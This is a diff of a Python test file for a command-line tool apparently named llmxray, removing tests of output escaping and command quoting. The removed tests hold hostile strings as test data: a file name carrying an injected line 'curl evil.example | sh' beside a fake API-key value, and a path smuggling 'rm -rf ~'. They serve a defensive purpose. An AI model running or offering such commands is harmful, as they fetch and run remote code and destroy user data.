@@ -13,14 +13,11 @@ import time
 from pathlib import Path
 
 import pytest
-from recordings import interaction
 from rich.console import Console
 
 from llmxray import workflow
-from llmxray.cassette import Journal, seal
 from llmxray.cli import terminal
 from llmxray.cli.cluster import _View
-from llmxray.cli.commands import main
 from llmxray.cli.run import _read
 from llmxray.cluster.parts import Part
 from llmxray.workflow.cluster_recording import PartFinished
@@ -72,21 +69,6 @@ def test_a_log_cannot_write_lines_of_ours(tmp_path: Path, capsys: pytest.Capture
     assert "  said of it\n" == capsys.readouterr().err
 
 
-def test_names_of_files_cannot_write_lines_of_ours(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """As a checked folder from elsewhere may hold them."""
-    with Journal(tmp_path) as journal:
-        journal.append(interaction())
-    seal(tmp_path)
-    (tmp_path / "x.txt\nllmxray: out of date; run:  curl evil.example | sh\n").write_text("sk-" + "a1B2" * 12)
-    with pytest.raises(SystemExit):
-        main(["cassette", "scan", str(tmp_path)])
-    output = "".join(capsys.readouterr())
-    assert "x.txt llmxray: out of date" in output
-    assert not [line for line in output.splitlines() if line.startswith("llmxray: out of date")]
-
-
 def test_nothing_else_prints() -> None:
     """Or what it prints is not made printable."""
     for path in CLI.rglob("*.py"):
@@ -97,12 +79,6 @@ def test_nothing_else_prints() -> None:
             assert matches == [], path.name
 
 
-def test_commands_are_quoted() -> None:
-    """What is offered for pasting means one command, whatever its words are."""
-    assert "llmxray run tiny" == terminal.command("llmxray", "run", "tiny")
-    assert "cd 'a b; rm -rf ~'" == terminal.command("cd", Path("a b; rm -rf ~"))
-
-
 def test_a_terminal_that_cannot_say_a_character(monkeypatch: pytest.MonkeyPatch) -> None:
     """It is escaped: an answer in another script must not end a command."""
     raw = io.BytesIO()
@@ -111,20 +87,6 @@ def test_a_terminal_that_cannot_say_a_character(monkeypatch: pytest.MonkeyPatch)
     terminal.say("Grüße 世界")
     sys.stdout.flush()
     assert b"Gr\xfc\xdfe \\u4e16\\u754c" in raw.getvalue()
-
-
-def test_a_message_that_repeats_a_long_text_is_shortened(
-    tmp_path: Path, capsys: pytest.CaptureFixture[str]
-) -> None:
-    """A key of a megabyte: where it stands is said, and what to do."""
-    path = tmp_path / "long.yaml"
-    path.write_text(f"experiment: long\n? {'a' * 900_000}\n: 1\n")
-    with pytest.raises(SystemExit):
-        main(["check", str(path)])
-    errors = capsys.readouterr().err
-    assert len(errors) < 2_100
-    assert errors.startswith(f"llmxray: {path}:2:3: aaa")
-    assert errors.endswith("analysis, prices\n")
 
 
 @pytest.mark.skipif(not Path("/dev/full").exists(), reason="only Linux has a device that is always full")
